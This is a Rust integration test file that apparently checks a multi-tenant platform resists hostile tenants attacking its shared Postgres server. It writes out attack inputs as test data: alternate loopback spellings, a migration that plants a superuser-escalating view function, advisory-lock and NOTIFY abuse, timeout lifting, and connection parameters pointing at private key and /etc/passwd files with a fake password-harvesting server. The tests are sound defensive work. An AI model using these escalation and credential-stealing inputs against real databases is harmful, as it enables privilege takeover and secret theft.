//! Attacks on the platform's Postgres: reaching it directly under another
//! spelling of its address, and getting the host to run the tenant's SQL as
//! its admin.

use std::time::{Duration, Instant};

use trellis_tests::platform::{Env, wait_for};

use super::{dbtest_app, guest_sql};

/// Every spelling of this machine's loopback that `getaddrinfo` accepts; the
/// deploy-time check only knew `localhost`, `127.0.0.1` and `::1`.
/// (This machine's host name is tried as well.)
const SPELLINGS: &[&str] = &["0.0.0.0", "127.1", "2130706433", "[::ffff:7f00:1]"];

/// The issue's first attack: `allowed_outbound_hosts =
/// ["postgres://0.0.0.0:5432"]` deployed, and the component opened the
/// platform's database as `postgres` (trust authentication): superuser.
#[tokio::test(flavor = "multi_thread")]
async fn the_platform_database_is_out_of_reach_under_any_spelling() {
    let env = Env::new("hostile_pg_spelling");
    let host = env.host();
    let mut spellings: Vec<String> = SPELLINGS.iter().map(|s| s.to_string()).collect();
    spellings.push(super::own_hostname());
    let allowed: Vec<String> = spellings
        .iter()
        .map(|s| format!("\"postgres://{s}:5432\""))
        .collect();
    let app = dbtest_app(
        "probe",
        &format!("allowed_outbound_hosts = [{}]", allowed.join(", ")),
        "",
    );
    host.cli(&["tenant", "create", "evil"]);
    host.deploy("evil", &app);
    for spelling in &spellings {
        let address = format!("postgres://postgres@{spelling}:5432/{}", env.db.name);
        let answer = guest_sql(
            &host,
            "probe.evil.localhost",
            &address,
            &["SELECT rolsuper::text FROM pg_roles WHERE rolname = current_user"],
        )
        .await;
        let error = &answer["open_error"];
        assert!(
            error.is_object(),
            "{spelling}: the tenant opened the platform's database: {answer}"
        );
        let text = error.to_string();
        assert!(
            text.contains("denied") && text.contains("platform's database server"),
            "{spelling}: {text}"
        );
    }
    // Named in the log, for the operator.
    assert!(
        host.trellis
            .wait_for_log(|line| line.contains("database address denied")),
        "{}",
        host.trellis.logs()
    );
}

/// The issue's second attack: a migration replaces `_trellis_outbox` by a
/// view whose filter calls the tenant's function; the host's sweep read it
/// as the admin, and the function made the tenant's role superuser.
#[tokio::test(flavor = "multi_thread")]
async fn the_host_never_reads_a_tenants_objects_as_its_admin() {
    let env = Env::new("hostile_outbox_view");
    let host = env.host();
    let app = dbtest_app(
        "probe",
        "",
        "[component.db.tool.trellis.databases.data]\noutbox = true\nmigrations = \"migrations\"",
    );
    super::write_migration(
        &app,
        "0001_escalate.sql",
        r#"
-- Made superuser by whoever evaluates it with the right to.
DO $do$ BEGIN
    EXECUTE format($f$
        CREATE FUNCTION escalate() RETURNS boolean LANGUAGE plpgsql AS $b$
        BEGIN
            EXECUTE 'ALTER ROLE %I SUPERUSER';
            RETURN true;
        EXCEPTION WHEN OTHERS THEN
            RETURN true;
        END $b$ $f$, current_user);
    -- The host's outbox, if it is the tenant's to drop, becomes a trap.
    IF to_regclass(format('%I._trellis_outbox', current_schema())) IS NOT NULL THEN
        EXECUTE format('DROP TABLE %I._trellis_outbox CASCADE', current_schema());
    END IF;
END $do$;
CREATE VIEW _trellis_outbox AS SELECT 1::bigint AS id, NULL::text AS error WHERE escalate();
"#,
    );
    host.cli(&["tenant", "create", "evil"]);
    host.deploy("evil", &app);

    let superuser = || {
        trellis_tests::psql(
            &env.db.name,
            &format!(
                "SELECT coalesce(bool_or(rolsuper), false) FROM pg_roles WHERE {}",
                super::roles_of_this_database("evil")
            ),
        )
    };
    // The relay's start has the outbox swept at once; give it time.
    let started = Instant::now();
    while started.elapsed() < Duration::from_secs(5) {
        assert_eq!(superuser(), "f", "the tenant's role became superuser");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    // The sweep did run (and found the platform's own, empty table).
    wait_for("the sweep of the tenant's outbox", async || {
        trellis_tests::psql(
            &env.db.name,
            "SELECT count(*) FROM pg_stat_user_tables WHERE relname = '_trellis_outbox' \
             AND schemaname LIKE 'o\\_evil\\_%' AND seq_scan > 0",
        ) == "1"
    })
    .await;

    // The outbox the host reads is the platform's: the tenant cannot drop,
    // alter or replace it.
    let outbox_schema = trellis_tests::psql(
        &env.db.name,
        "SELECT schemaname FROM pg_tables WHERE tablename = '_trellis_outbox' AND schemaname LIKE 'o\\_evil\\_%'",
    );
    assert!(!outbox_schema.is_empty(), "no platform outbox");
    let answer = guest_sql(
        &host,
        "probe.evil.localhost",
        "postgres://trellis.internal/data",
        &[
            &format!("DROP TABLE {outbox_schema}._trellis_outbox"),
            &format!("ALTER TABLE {outbox_schema}._trellis_outbox ADD COLUMN x int"),
            &format!("CREATE VIEW {outbox_schema}.v AS SELECT 1"),
            &format!("CREATE INDEX ON {outbox_schema}._trellis_outbox ((escalate()))"),
        ],
    )
    .await;
    for (step, result) in answer["results"]
        .as_array()
        .expect("results")
        .iter()
        .enumerate()
    {
        assert_eq!(result["error"]["code"], "42501", "step {step}: {answer}");
    }
    assert_eq!(superuser(), "f");
}

/// Advisory locks have one key space per database: a tenant holding the
/// host's provisioning lock, or another tenant's outbox barrier (its oid is
/// in `pg_class` for all to read), stalled every deployment, or every order
/// of its neighbour, for as long as it liked.
#[tokio::test(flavor = "multi_thread")]
async fn a_tenant_cannot_hold_the_hosts_or_a_neighbours_locks() {
    let env = Env::new("hostile_locks");
    let host = env.host();
    let shop = trellis_tests::shop_app();
    host.cli(&["tenant", "create", "acme"]);
    host.deploy("acme", &shop);
    let probe = dbtest_app("probe", "", "[component.db.tool.trellis.databases.data]\n");
    host.cli(&["tenant", "create", "evil"]);
    host.deploy("evil", &probe);

    // 0x7472_6c42: the outbox's barrier lock (host/src/outbox.rs).
    let answer = guest_sql(
        &host,
        "probe.evil.localhost",
        "postgres://trellis.internal/data",
        &[
            "SELECT pg_advisory_lock(hashtext('trellis:provision'))::text",
            "SELECT pg_try_advisory_lock(1953655874, c.oid::int)::text FROM pg_class c \
             JOIN pg_namespace n ON n.oid = c.relnamespace \
             WHERE c.relname = '_trellis_outbox' AND n.nspname LIKE 'o\\_acme\\_shop\\_order\\_%'",
            "SELECT pg_advisory_xact_lock(1)::text",
            "SELECT pg_advisory_lock_shared(1, 2)::text",
        ],
    )
    .await;
    for (step, result) in answer["results"]
        .as_array()
        .expect("results")
        .iter()
        .enumerate()
    {
        assert_eq!(result["error"]["code"], "42501", "step {step}: {answer}");
    }

    // The host's own work goes on: another deployment provisions its
    // databases, and the neighbour's orders (an outbox insert each) commit.
    let other = dbtest_app(
        "other",
        "",
        "[component.db.tool.trellis.databases.data]\noutbox = true\n",
    );
    host.deploy("acme", &other);
    super::acme_takes_an_order(&host).await;
}

/// The role's sleeping statements, as the server sees them.
fn sleeping(db: &str) -> String {
    trellis_tests::psql(
        db,
        "SELECT count(*) FROM pg_stat_activity WHERE usename LIKE 't\\_evil\\_%' \
         AND datname = current_database() AND state = 'active' AND query LIKE '%pg_sleep%'",
    )
}

/// Waits (at most 15 s, far less than the 600 s each statement asks for)
/// until the server runs none of the tenant's sleeps.
async fn wait_until_none_sleeps(db: &str, what: &str) {
    let started = Instant::now();
    while sleeping(db) != "0" {
        assert!(
            started.elapsed() < Duration::from_secs(15),
            "{what}: the statement still runs on the server"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

/// A tenant lifts its statement timeout (`SET`, `set_config` in a `DO`
/// block, `ALTER ROLE`): the host's deadline cut the guest off, but the
/// statement ran on, as long as the tenant asked.
#[tokio::test(flavor = "multi_thread")]
async fn a_statement_past_its_deadline_is_cancelled_on_the_server() {
    let env = Env::new("hostile_timeout");
    let host = env.host_with(&["--statement-timeout", "1s"]);
    let probe = dbtest_app("probe", "", "[component.db.tool.trellis.databases.data]\n");
    host.cli(&["tenant", "create", "evil"]);
    host.deploy("evil", &probe);
    let lifts = [
        "SET statement_timeout = 0",
        "DO $$ BEGIN PERFORM set_config('statement_timeout', '0', false); END $$",
        "ALTER ROLE CURRENT_USER SET statement_timeout = 0",
    ];
    for lift in lifts {
        let answer = guest_sql(
            &host,
            "probe.evil.localhost",
            "postgres://trellis.internal/data",
            &[lift, "SELECT pg_sleep(600)::text"],
        )
        .await;
        let error = answer["results"][1]["error"].to_string();
        assert!(
            error.contains("timed out") || error.contains("57014"),
            "{lift}: {answer}"
        );
        wait_until_none_sleeps(&env.db.name, lift).await;
    }
}

/// The guest is stopped at its deadline in the middle of a statement: the
/// statement goes with it.
#[tokio::test(flavor = "multi_thread")]
async fn a_guest_stopped_mid_statement_leaves_nothing_running() {
    let env = Env::new("hostile_midstatement");
    let host = env.host_with(&["--statement-timeout", "600s"]);
    let probe = dbtest_app(
        "probe",
        "[component.db.tool.trellis]\ntimeout_ms = 1000",
        "[component.db.tool.trellis.databases.data]\n",
    );
    host.cli(&["tenant", "create", "evil"]);
    host.deploy("evil", &probe);
    let answer = host
        .post(
            "probe.evil.localhost",
            "/db/sql",
            &serde_json::json!({
                "address": "postgres://trellis.internal/data",
                "steps": [{"op": "query", "sql": "SELECT pg_sleep(600)::text", "params": []}],
                "trap_after": false,
            }),
        )
        .await;
    assert_eq!(answer.status, 504, "{}", answer.text);
    wait_until_none_sleeps(&env.db.name, "the guest's deadline").await;
}

/// What a guest leaves on its session, hidden behind a plain `SELECT` of a
/// function of its own (`set_config`, `LISTEN`) or after `COMMIT AND CHAIN`
/// (a transaction still open), must not reach the next guest that gets the
/// same pooled connection: the host's statement tracking could not see it.
#[tokio::test(flavor = "multi_thread")]
async fn session_state_never_outlives_a_guests_connection() {
    let env = Env::new("hostile_session");
    let host = env.host();
    let probe = dbtest_app(
        "probe",
        "",
        "[component.db.tool.trellis.databases.data]\nmigrations = \"migrations\"",
    );
    super::write_migration(
        &probe,
        "0001_sneaky.sql",
        r#"
CREATE TABLE marks (n int);
CREATE FUNCTION sneaky() RETURNS int LANGUAGE plpgsql AS $$
BEGIN
    PERFORM set_config('application_name', 'evil was here', false);
    PERFORM set_config('work_mem', '64MB', false);
    EXECUTE 'LISTEN evil_channel';
    RETURN 1;
END $$;
"#,
    );
    host.cli(&["tenant", "create", "evil"]);
    host.deploy("evil", &probe);
    let data = "postgres://trellis.internal/data";
    let app = "probe.evil.localhost";

    let first = guest_sql(
        &host,
        app,
        data,
        &[
            "SELECT pg_backend_pid()::text",
            "SELECT sneaky()::text",
            "BEGIN",
            "INSERT INTO marks VALUES (1)",
            "COMMIT AND CHAIN",
            "INSERT INTO marks VALUES (2)",
        ],
    )
    .await;
    let pid = first["results"][0]["rows"][0][0].clone();
    assert!(pid.is_string(), "{first}");

    // The next guest to get that connection: the pool hands out the most
    // recently returned one, so the first guest's connection, once back
    // (its reset runs after the guest is done), is the next one given out.
    tokio::time::sleep(Duration::from_secs(1)).await;
    let mut seen = None;
    for _ in 0..50 {
        let next = guest_sql(
            &host,
            app,
            data,
            &[
                "SELECT pg_backend_pid()::text",
                "SELECT current_setting('application_name') || ' | ' || current_setting('work_mem') \
                 || ' | ' || (SELECT count(*) FROM pg_listening_channels()) \
                 || ' | ' || (SELECT count(*) FROM marks) \
                 || ' | ' || (txid_current_if_assigned() IS NULL)",
            ],
        )
        .await;
        if next["results"][0]["rows"][0][0] == pid {
            seen = Some(next["results"][1]["rows"][0][0].clone());
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let seen = seen.expect("the first guest's connection came back");
    let seen = seen.as_str().unwrap_or_default();
    let fields: Vec<&str> = seen.split(" | ").collect();
    assert_ne!(fields[0], "evil was here", "{seen}");
    assert_ne!(fields[1], "64MB", "{seen}");
    assert_eq!(fields[2], "0", "still listening: {seen}");
    // Row 1 was committed; row 2 was in the chained transaction, rolled back.
    assert_eq!(fields[3], "1", "{seen}");
    assert_eq!(fields[4], "true", "inside an inherited transaction: {seen}");
}

/// A tenant's query that spills to disk without end (a sort of millions of
/// rows with a tiny `work_mem`) filled the server's disk for everyone; its
/// role could also hold as many connections as the server allows.
#[tokio::test(flavor = "multi_thread")]
async fn a_tenants_role_is_bounded_in_disk_and_connections() {
    let env = Env::new("hostile_role_limits");
    let host = env.host_with(&[
        "--role-temp-file-limit-kb",
        "1024",
        "--role-connection-limit",
        "5",
    ]);
    let probe = dbtest_app("probe", "", "[component.db.tool.trellis.databases.data]\n");
    host.cli(&["tenant", "create", "evil"]);
    host.deploy("evil", &probe);
    let answer = guest_sql(
        &host,
        "probe.evil.localhost",
        "postgres://trellis.internal/data",
        &[
            "SET temp_file_limit = -1",
            "SET work_mem = '64kB'",
            "SELECT count(*)::text FROM (SELECT g FROM generate_series(1, 2000000) g ORDER BY g DESC) s",
        ],
    )
    .await;
    let results = &answer["results"];
    assert_eq!(results[0]["error"]["code"], "42501", "{answer}");
    // 53400: configuration_limit_exceeded (temp_file_limit).
    assert_eq!(results[2]["error"]["code"], "53400", "{answer}");
    let limit = trellis_tests::psql(
        &env.db.name,
        &format!(
            "SELECT rolconnlimit FROM pg_roles WHERE {}",
            super::roles_of_this_database("evil")
        ),
    );
    assert_eq!(limit, "5");
}

/// `NOTIFY` takes no privilege: a tenant named a neighbour's outbox on the
/// outbox channel, over and over, and the host woke the neighbour's relay
/// each time (a connection and a scan of its table per forged message).
#[tokio::test(flavor = "multi_thread")]
async fn forged_notifications_wake_nobody() {
    let env = Env::new("hostile_notify");
    let host = env.host();
    let shop = trellis_tests::shop_app();
    host.cli(&["tenant", "create", "acme"]);
    host.deploy("acme", &shop);
    let probe = dbtest_app("probe", "", "[component.db.tool.trellis.databases.data]\n");
    host.cli(&["tenant", "create", "evil"]);
    host.deploy("evil", &probe);
    let outbox = trellis_tests::psql(
        &env.db.name,
        "SELECT schemaname FROM pg_tables WHERE tablename = '_trellis_outbox' \
         AND schemaname LIKE 'o\\_acme\\_shop\\_order\\_%'",
    );
    assert!(!outbox.is_empty());
    // How often the relay (or anyone) read acme's outbox.
    let scans = || -> i64 {
        trellis_tests::psql(
            &env.db.name,
            &format!(
                "SELECT pg_stat_clear_snapshot(); SELECT coalesce(seq_scan, 0) + coalesce(idx_scan, 0) \
                 FROM pg_stat_user_tables WHERE schemaname = '{outbox}' AND relname = '_trellis_outbox'"
            ),
        )
        .lines()
        .last()
        .unwrap_or_default()
        .trim()
        .parse()
        .expect("a scan count")
    };
    // Quiet: the start-up sweep is done and counted.
    tokio::time::sleep(Duration::from_secs(2)).await;
    let before = scans();

    // One notification per statement (each its own transaction), on both
    // of the host's channels.
    let forged: Vec<String> = (0..200)
        .map(|i| {
            if i % 2 == 0 {
                format!("SELECT pg_notify('trellis_outbox', '{outbox}')::text")
            } else {
                format!("SELECT pg_notify('trellis_platform', 'acme/forged{i}')::text")
            }
        })
        .collect();
    let steps: Vec<&str> = forged.iter().map(String::as_str).collect();
    for _ in 0..5 {
        let answer = guest_sql(
            &host,
            "probe.evil.localhost",
            "postgres://trellis.internal/data",
            &steps,
        )
        .await;
        assert!(answer["results"][0].get("error").is_none(), "{answer}");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    // Statistics reach the server's views within a second or so.
    tokio::time::sleep(Duration::from_secs(3)).await;
    let woken = scans() - before;
    assert!(
        woken <= 2,
        "acme's relay read its outbox {woken} times for forged wake-ups"
    );

    // The neighbour's real work still wakes its relay at once.
    super::acme_takes_an_order(&host).await;
}

/// A database address that would make the host hand over its own secrets:
/// its client key or CA file (`sslkey=`, `sslrootcert=`), another server
/// (`host=`), or, with no password in the URL, the `PGPASSWORD` of the
/// host's environment, which sqlx fills in by default. The "server" here is
/// the attacker's: it asks for a cleartext password and keeps what it gets.
#[tokio::test(flavor = "multi_thread")]
async fn a_database_address_cannot_take_the_hosts_secrets() {
    use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("bind");
    let port = listener.local_addr().expect("addr").port();
    let heard = std::sync::Arc::new(std::sync::Mutex::new(Vec::<String>::new()));
    let record = heard.clone();
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            let record = record.clone();
            tokio::spawn(async move {
                let read_message = async |stream: &mut tokio::net::TcpStream, tagged: bool| {
                    if tagged {
                        stream.read_u8().await.ok()?;
                    }
                    let len = stream.read_u32().await.ok()? as usize;
                    let mut body = vec![0; len.saturating_sub(4)];
                    stream.read_exact(&mut body).await.ok()?;
                    Some(body)
                };
                // SSLRequest (refused), then the startup message.
                let mut startup = read_message(&mut stream, false).await?;
                if startup.len() == 4 && startup[..4] == [0x04, 0xd2, 0x16, 0x2f] {
                    stream.write_all(b"N").await.ok()?;
                    startup = read_message(&mut stream, false).await?;
                }
                let _ = startup;
                // AuthenticationCleartextPassword.
                stream
                    .write_all(&[b'R', 0, 0, 0, 8, 0, 0, 0, 3])
                    .await
                    .ok()?;
                let password = read_message(&mut stream, true).await?;
                let password = String::from_utf8_lossy(&password)
                    .trim_end_matches('\0')
                    .to_owned();
                record.lock().unwrap().push(password);
                Some(())
            });
        }
    });

    let env = Env::new("hostile_pg_secrets");
    let host = env.host_with_env(
        &["--tenant-allow-net", "127.0.0.1/32"],
        &[("PGPASSWORD", "the-hosts-own-password")],
    );
    let probe = dbtest_app(
        "probe",
        &format!("allowed_outbound_hosts = [\"postgres://127.0.0.1:{port}\"]"),
        "",
    );
    host.cli(&["tenant", "create", "evil"]);
    host.deploy("evil", &probe);
    let app = "probe.evil.localhost";
    let base = format!("postgres://someone@127.0.0.1:{port}/db");
    // No password: the attacker's server asks for one.
    let answer = guest_sql(&host, app, &base, &["SELECT 1"]).await;
    assert!(answer["open_error"].is_object(), "{answer}");
    wait_for("the attacker's server to be asked", async || {
        !heard.lock().unwrap().is_empty()
    })
    .await;
    assert_eq!(
        heard.lock().unwrap().as_slice(),
        [String::new()],
        "the host's PGPASSWORD was sent"
    );
    for parameter in [
        "sslkey=/etc/ssl/private/host.key",
        "ssl%6Bey=/etc/ssl/private/host.key",
        "sslrootcert=/etc/passwd",
        "host=/var/run/postgresql",
    ] {
        let answer = guest_sql(&host, app, &format!("{base}?{parameter}"), &["SELECT 1"]).await;
        let error = answer["open_error"].to_string();
        assert!(error.contains("may not set"), "{parameter}: {answer}");
    }
}
